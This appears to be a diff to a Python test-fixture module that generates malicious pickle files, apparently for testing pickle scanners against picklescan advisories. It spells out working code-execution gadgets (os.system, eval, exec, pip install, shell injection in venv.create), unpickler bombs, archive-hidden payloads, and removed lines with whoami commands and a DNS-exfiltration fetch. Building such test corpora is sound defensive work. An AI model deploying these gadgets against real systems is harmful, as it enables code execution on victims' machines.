@@ -2,7 +2,9 @@
 
 They are those of the corpus under the same names: pickles that import and call, each opcode and protocol by which a
 global can be named, bombs that hang an unpickler, and the same in archives that a scanner may not look into. Payloads
-of picklescan's test data are told apart by the function that they name; the arguments are our own.
+of picklescan's test data are told apart by the function that they name; the arguments are our own. Wherever the call
+can, it creates `EVIL_MARKER` in the working folder, if its library is installed; `NO_MARKER` lists the rest. No payload
+reaches another machine.
 """
 
 from __future__ import annotations
@@ -16,15 +18,15 @@ import zipfile
 import zlib
 from typing import TYPE_CHECKING, Any
 
-import numpy as np
-
 if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
 
 MARKER = "EVIL_MARKER"
 TOUCH = f"touch {MARKER}"
-WHOAMI = "__import__('os').system('whoami')"
+OPEN = f"open('{MARKER}', 'w')"
+UNUSED = "harmless"  # where the call fails before it reads the argument
+LOCAL = ("127.0.0.1", 9)  # the discard port of this machine
 
 
 # ---- Opcodes
@@ -85,7 +87,8 @@ def wanted(data: bytes) -> list[str]:
 
 # ---- Pickles by themselves
 
-EVAL = call("builtins", "eval", "print('456')")
+EVAL = call("builtins", "eval", OPEN)
+NESTED = old_call("posix", "system", TOUCH)  # as bytes, for functions that unpickle them
 HASH_BOMB = (
     b"\x80\x02)q\x00"
     + b"".join(b"h%ch%c\x86q%c" % (at, at, at + 1) for at in range(60))
@@ -110,7 +113,10 @@ _CODE = (
 )
 _PIP = (
     "install",
-    "some_malicious_package",
+    "some_malicious_package.invalid",
+    "--no-index",
+    "--log",
+    MARKER,
     "--no-input",
     "-q",
     "-q",
@@ -129,69 +135,70 @@ PICKLES: dict[str, tuple[str, bytes]] = {
     "frame-bomb-pkl": ("frame_bomb.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N."),
     "hash-bomb-pkl": ("hash_bomb.pkl", HASH_BOMB),
     "picklescan-ghsa-3gf5-cxq9-w223-pkl": (
-        "a.pkl", call("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, WHOAMI)),
+        "a.pkl", call("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, UNUSED)),
     "picklescan-ghsa-4675-36f9-wf6r-pkl": ("a.pkl", call("ctypes", "CDLL", None)),
-    "picklescan-ghsa-49gj-c84q-6qm9-pkl": ("a.pkl", call("cProfile", "run", WHOAMI)),
+    "picklescan-ghsa-49gj-c84q-6qm9-pkl": ("a.pkl", call("cProfile", "run", OPEN)),
     "picklescan-ghsa-4whj-rm5r-c2v8-pkl": (
-        "a.pkl", call("torch.utils.bottleneck.__main__", "run_autograd_prof", WHOAMI, {})),
-    "picklescan-ghsa-6vqj-c2q5-j97w-pkl": ("a.pkl", call("profile", "Profile.runctx", {}, WHOAMI, {}, {})),
+        "a.pkl", call("torch.utils.bottleneck.__main__", "run_autograd_prof", OPEN, {})),
+    "picklescan-ghsa-6vqj-c2q5-j97w-pkl": ("a.pkl", call("profile", "Profile.runctx", {}, UNUSED, {}, {})),
     "picklescan-ghsa-7cq8-mj8x-j263-pkl": (
-        "a.pkl", call("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, WHOAMI, 0)),
+        "a.pkl", call("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, UNUSED, 0)),
     "picklescan-ghsa-84r2-jw7c-4r5q-pkl": (
-        "a.pkl", framed(by_stack("operator", "methodcaller") + arguments("system", "echo pwned") + b"R"
+        "a.pkl", framed(by_stack("operator", "methodcaller") + arguments("system", TOUCH) + b"R"
                         + by_stack("pydoc", "locate") + arguments("os") + b"R\x85R")),
-    "picklescan-ghsa-8r4j-24qv-fmq9-pkl": ("a.pkl", call("idlelib.calltip", "Calltip.fetch_tip", {}, WHOAMI)),
-    "picklescan-ghsa-9w88-8rmg-7g2p-pkl": ("a.pkl", call("cProfile", "runctx", WHOAMI, None, None)),
-    "picklescan-ghsa-cj3c-v495-4xqh-pkl": ("a.pkl", call("code", "InteractiveInterpreter.runcode", {}, WHOAMI)),
+    "picklescan-ghsa-8r4j-24qv-fmq9-pkl": ("a.pkl", call("idlelib.calltip", "Calltip.fetch_tip", {}, UNUSED)),
+    "picklescan-ghsa-9w88-8rmg-7g2p-pkl": ("a.pkl", call("cProfile", "runctx", OPEN, None, None)),
+    "picklescan-ghsa-cj3c-v495-4xqh-pkl": ("a.pkl", call("code", "InteractiveInterpreter.runcode", {}, UNUSED)),
     "picklescan-ghsa-f54q-57x4-jg88-pkl": ("a.pkl", call("lib2to3.pgen2.grammar", "Grammar.loads", {}, b"")),
-    "picklescan-ghsa-fqq6-7vqf-w3fg-pkl": ("a.pkl", call("doctest", "debug_script", WHOAMI, True)),
-    "picklescan-ghsa-g38g-8gr9-h9xp-aix-support-pkl": ("a.pkl", call("_aix_support", "_read_cmd_output", "id")),
-    "picklescan-ghsa-g38g-8gr9-h9xp-osx-support-pkl": ("a.pkl", call("_osx_support", "_read_output", "id")),
+    "picklescan-ghsa-fqq6-7vqf-w3fg-pkl": ("a.pkl", call("doctest", "debug_script", OPEN, True)),
+    "picklescan-ghsa-g38g-8gr9-h9xp-aix-support-pkl": ("a.pkl", call("_aix_support", "_read_cmd_output", TOUCH)),
+    "picklescan-ghsa-g38g-8gr9-h9xp-osx-support-pkl": ("a.pkl", call("_osx_support", "_read_output", TOUCH)),
     "picklescan-ghsa-g38g-8gr9-h9xp-test-pkl": (
         "a.pkl", b"\x80\x04" + text("test.support.script_helper") + text("assert_python_ok") + b"\x93"
-        + arguments("-c pass") + b"R."),
+        + arguments("-c", OPEN) + b"R."),
     "picklescan-ghsa-h3qp-7fh3-f8h4-pkl": (
-        "a.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b"")),
+        "a.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED)),
     "picklescan-ghsa-jgw4-cr84-mqxg-bin": (
-        "a.bin", call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami", True, None, 0)),
+        "a.bin", call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, TOUCH, True, None, None, None, 0)),
     "picklescan-ghsa-m273-6v24-x4m4-pkl": ("a.pkl", call("distutils.file_util", "write_file", MARKER, ["harmless"])),
     "picklescan-ghsa-p9w7-82w4-7q8m-pkl": (
-        "a.pkl", call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, f'""+{WHOAMI}')),
-    "picklescan-ghsa-r8g5-cgf2-4m4m-pkl": ("a.pkl", call("numpy.f2py.crackfortran", "getlincoef", WHOAMI, [])),
+        "a.pkl", call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""')),
+    "picklescan-ghsa-r8g5-cgf2-4m4m-pkl": ("a.pkl", call("numpy.f2py.crackfortran", "getlincoef", OPEN, [])),
     "picklescan-ghsa-vr7h-p6mm-wpmh-pkl": (
-        "a.pkl", call("torch.jit.unsupported_tensor_ops", "execWrapper", WHOAMI, {}, {})),
-    "picklescan-ghsa-vvpj-8cmc-gx39-pkl": ("a.pkl", call("pkgutil", "resolve_name", "os:system")),
-    "picklescan-ghsa-xp4f-hrf8-rxw7-pkl": ("a.pkl", call("ensurepip", "_run_pip", WHOAMI)),
+        "a.pkl", call("torch.jit.unsupported_tensor_ops", "execWrapper", OPEN, {}, {})),
+    "picklescan-ghsa-vvpj-8cmc-gx39-pkl": (
+        "a.pkl", framed(by_stack("pkgutil", "resolve_name") + arguments("os:system") + b"R" + arguments(TOUCH) + b"R")),
+    "picklescan-ghsa-xp4f-hrf8-rxw7-pkl": ("a.pkl", call("ensurepip", "_run_pip", OPEN)),
     # The memo has no entry 3, and the name of a global is a number: what reads the names only stops with KeyError.
     "picklescan-keyerror-exploit-pkl": (
-        "a.pkl", b"\x80\x04" + by_line("os", "system") + b"Vecho pwned\n\x85R0" + text("os")
+        "a.pkl", b"\x80\x04" + by_line("os", "system") + b"V%s\n\x85R0" % TOUCH.encode() + text("os")
         + b"\x94h\x03h\x00\x93KB."),
     # Both names of the global come from the memo, and white space follows the end.
     "picklescan-malicious-invalid-bytes-pkl": (
         "a.pkl", b"".join(b"V%s\np%d\n0" % (word, at) for word, at in
                           ((b"os", 2), (b"system", 3), (b"torch", 0), (b"LongStorage", 1)))
-        + b"g2\ng3\n\x93(Vcat flag.txt\ntR.\n\n\t\t"),
-    "picklescan-malicious1-v0-pkl": ("a.pkl", old_call("__builtin__", "eval", "print('456')")),
+        + b"g2\ng3\n\x93(V%s\ntR.\n\n\t\t" % TOUCH.encode()),
+    "picklescan-malicious1-v0-pkl": ("a.pkl", old_call("__builtin__", "eval", OPEN)),
     "picklescan-malicious1-v4-pkl": ("a.pkl", EVAL),
-    "picklescan-malicious10-pkl": ("a.pkl", b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."),
+    "picklescan-malicious10-pkl": ("a.pkl", b'(S"%s"\ni__builtin__\nexec\n.' % OPEN.encode()),
     "picklescan-malicious12-pkl": (
         "a.pkl", b"\x80\x04" + by_stack("operator", "attrgetter") + arguments("system") + b"R"
-        + by_stack("builtins", "__import__") + arguments("os") + b"R\x85R" + arguments("echo pwned") + b"R."),
-    "picklescan-malicious13b-pkl": ("a.pkl", call("_pickle", "loads", b"I12345\n.")),
+        + by_stack("builtins", "__import__") + arguments("os") + b"R\x85R" + arguments(TOUCH) + b"R."),
+    "picklescan-malicious13b-pkl": ("a.pkl", call("_pickle", "loads", NESTED)),
     "picklescan-malicious15a-pkl": (
         "a.pkl", b"\x80\x02" + by_line("__builtin__", "getattr") + by_line("bdb", "Bdb") + b"q\x01" + text("run")
-        + b"\x86Rh\x01)\x81}" + text("skip") + b"Nsb" + text("import os\nos.system('whoami')") + b"\x86R."),
+        + b"\x86Rh\x01)\x81}" + text("skip") + b"Nsb" + text(OPEN) + b"\x86R."),
     "picklescan-malicious16-pkl": (
         "a.pkl", by_line("pip", "main") + b"((l" + b"".join(b"V%s\na" % word.encode() for word in _PIP) + b"tR."),
-    "picklescan-malicious18-pkl": ("a.pkl", call("pydoc", "pipepager", "", 'echo "pwned"')),
+    "picklescan-malicious18-pkl": ("a.pkl", call("pydoc", "pipepager", "", TOUCH)),
     "picklescan-malicious2-v3-pkl": (
-        "a.pkl", b"\x80\x03" + by_line("posix", "system") + arguments("ls -la") + b"R."),
+        "a.pkl", b"\x80\x03" + by_line("posix", "system") + arguments(TOUCH) + b"R."),
     "picklescan-malicious20-pkl": (
-        "a.pkl", call("venv", "create", "venv", False, False, True, False, "$(echo pwned)")),
+        "a.pkl", call("venv", "create", MARKER, False, False, True, False, f"$({TOUCH})")),
     "picklescan-malicious22-pkl": (
-        "a.pkl", call("numpy.testing._private.utils", "runstring", "import os; os.system('true')", {})),
-    "picklescan-malicious3-pkl": ("a.pkl", old_call("httplib", "HTTPSConnection", "github.com")),
-    "picklescan-malicious7-pkl": ("a.pkl", call("socket", "create_connection", ("github.com", 80))),
+        "a.pkl", call("numpy.testing._private.utils", "runstring", OPEN, {})),
+    "picklescan-malicious3-pkl": ("a.pkl", old_call("httplib", "HTTPSConnection", "x.invalid")),
+    "picklescan-malicious7-pkl": ("a.pkl", call("socket", "create_connection", LOCAL)),
     "picklescan-malicious9-pkl": ("a.pkl", call("sys", "exit", 0)),
     "picklescan-types-codetype-pkl": ("a.pkl", b"\x80\x04" + by_stack("types", "CodeType") + arguments(*_CODE) + b"R."),
 }  # fmt: skip
@@ -227,13 +234,15 @@ def zipped(name: str, data: bytes, *, flags: int = 0, crc: bool = True) -> bytes
 
 def object_array(*, calls: bool) -> bytes:
     """An .npy whose elements are a pickle; with a call among them, or plain numbers."""
+    import numpy as np
+
     buffer = io.BytesIO()
     np.lib.format.write_array(buffer, np.array([1, 2], object), allow_pickle=True)
     raw = buffer.getvalue()
     begin = 10 + struct.unpack("<H", raw[8:10])[0]
     if not calls:
         return raw
-    fetch = by_stack("ssl", "get_server_certificate") + arguments((".dns-logger.invalid", 443)) + b"R"
+    fetch = by_stack("ssl", "get_server_certificate") + arguments(LOCAL) + b"R"
     body = raw[begin + len(framed(b"")) - 1 : -1].replace(b"K\x01K\x02e", b"K\x01" + fetch + b"e")
     assert fetch in body, "another pickler"
     return raw[:begin] + framed(body)
@@ -273,7 +282,7 @@ def _torch_stream(path: Path) -> None:
     data = buffer.getvalue()
     end = data.index(b"u.", data.index(b"_rebuild_tensor_v2")) + 2
     begin = data.rindex(b"\x80\x02}", 0, end)
-    evil = _with_call(data[begin:end], "__builtin__", "exec", f"open('{MARKER}', 'w')")
+    evil = _with_call(data[begin:end], "__builtin__", "exec", OPEN)
     path.write_bytes(data[:begin] + evil + data[end:])
 
 
@@ -339,8 +348,8 @@ def _write(path: Path, data: bytes) -> None:
 # Name → the file or folder, and how it is made.
 FILES: dict[str, tuple[str, Callable[[Path], None]]] = {
     **{name: (file, _bytes(data)) for name, (file, data) in PICKLES.items()},
-    "picklescan-dns-exfiltration-npy": ("a.npy", _bytes(object_array(calls=True))),
-    "picklescan-object-array-npy": ("a.npy", _bytes(object_array(calls=False))),
+    "picklescan-dns-exfiltration-npy": ("a.npy", lambda path: _write(path, object_array(calls=True))),
+    "picklescan-object-array-npy": ("a.npy", lambda path: _write(path, object_array(calls=False))),
     "picklescan-object-arrays-compressed-npz": ("a.npz", _object_npz),
     "picklescan-malicious1-0x1-zip": ("a.zip", _bytes(zipped("model/config.pkl", EVAL, flags=0x1))),
     "picklescan-malicious1-0x40-zip": ("a.zip", _bytes(zipped("model/config.pkl", EVAL, flags=0x40))),
@@ -353,3 +362,15 @@ FILES: dict[str, tuple[str, Callable[[Path], None]]] = {
     "dcp-path-escape": ("dcp_path_escape", _dcp_outside),
     "dcp-planner-data": ("dcp_planner_data", lambda path: _dcp(path, _planned)),
 }
+# What leaves no file if it is run: a call that cannot, one that fails before it could, or no call at all.
+NO_MARKER = frozenset(
+    (
+        "torch-gadget-pkl", "frame-bomb-pkl", "hash-bomb-pkl", "dcp-length-bomb", "dcp-path-escape",
+        *(f"picklescan-{name}" for name in (
+            "ghsa-3gf5-cxq9-w223-pkl", "ghsa-4675-36f9-wf6r-pkl", "ghsa-6vqj-c2q5-j97w-pkl", "ghsa-7cq8-mj8x-j263-pkl",
+            "ghsa-8r4j-24qv-fmq9-pkl", "ghsa-cj3c-v495-4xqh-pkl", "ghsa-f54q-57x4-jg88-pkl", "ghsa-p9w7-82w4-7q8m-pkl",
+            "malicious3-pkl", "malicious7-pkl", "malicious9-pkl", "types-codetype-pkl",
+            "dns-exfiltration-npy", "object-array-npy", "object-arrays-compressed-npz",
+        )),
+    )
+)  # fmt: skip
